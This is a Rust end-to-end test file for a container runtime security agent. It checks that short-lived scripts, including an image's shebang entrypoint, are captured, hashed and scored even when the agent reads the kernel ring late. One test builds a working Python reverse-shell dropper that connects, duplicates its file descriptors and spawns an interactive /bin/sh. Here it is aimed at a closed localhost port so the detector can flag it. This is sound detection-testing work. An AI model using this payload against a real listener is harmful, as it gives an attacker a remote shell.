//! End to end: the lifetime cases that need an agent reading late (the ring read only every
//! second unless the kernel wakes it): a short python script held at exec, and an image's
//! `#!` script that the kernel marks urgent.
//!
//! Their own test binary, so that their agent never runs beside `agent_lifetimes`' one: both
//! agents' programs stop a memfd exec, the first to read it resumes it, and the other then
//! finds it gone and counts a lost file (seen once in session 10's runs, when both agents
//! lived in `agent_lifetimes`: the late one failed its lost-file check on the memfd test's
//! exec). One agent per node is the deployment; two on one node share each hold.
//!
//! Needs root and podman (`ward_testkit::require_containers!` skips otherwise).

mod lifetimes_common;
use lifetimes_common::*;
use ward_testkit::require_containers;

/// The same, read by an agent that otherwise reads the ring only every second: the script is
/// the container's only process, so it is read through the container's root as the runtime
/// mounted it on the host, which the runtime's cleanup unmounts soon after the exit. The
/// kernel marks a `#!` exec from a container's file system urgent (`WARD_EXEC_SHEBANG`), so
/// the agent reads it at once. Without that, this agent lost the first one (the container
/// was cleaned up first; measured once with the flag's wake-up taken out).
#[test]
fn image_script_entrypoint_read_by_a_late_agent_is_built_in() {
    let images = require_containers!();
    let agent = late_agent(&images);
    let sum = which_sha(&images);
    for _ in 0..3 {
        let x = run_to_exit(&images.debian, "latescript", &[WHICH, "ls"]);
        assert!(x.stdout.contains("/ls"), "{x:?}");
        let f = wait_for(agent, &x.id, BUILT_IN, |f| {
            f["sourceProperties"]["Matched_File"] == "script"
        });
        assert_eq!(f["sourceProperties"]["Matched_Sha256"], sum);
        assert_eq!(f["sourceProperties"]["File_Layer"], "image", "{f:#}");
    }
    assert_no_lost_files(agent);
}

/// A Python dropper script file whose connection fails at once (nothing listens): it runs for
/// a few milliseconds, and its contents are still captured and scored, by an agent that reads
/// the ring only every second (the exec is held until the script is read).
#[test]
fn short_lived_python_script_file_is_scored() {
    let images = require_containers!();
    let agent = late_agent(&images);
    // A closed port on 127.0.0.1: connect() is refused at once and the script dies.
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let body = format!(
        "import socket, subprocess, os\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
         s.connect(('127.0.0.1', {port}))\n\
         os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\
         subprocess.call(['/bin/sh', '-i'])\n"
    );
    let x = run_to_exit(
        &images.debian,
        "pyshort",
        &[
            "sh",
            "-c",
            "printf '%s' \"$0\" > /tmp/sync.py && exec python3 /tmp/sync.py || true",
            &body,
        ],
    );
    let f = wait_for(agent, &x.id, MALICIOUS_PYTHON, |_| true);
    let script = &f["processes"][0]["script"];
    assert_eq!(script["path"], "/tmp/sync.py", "{f:#}");
    assert_eq!(script["contents"], body.as_str(), "{f:#}");
    assert_no_lost_files(agent);
}
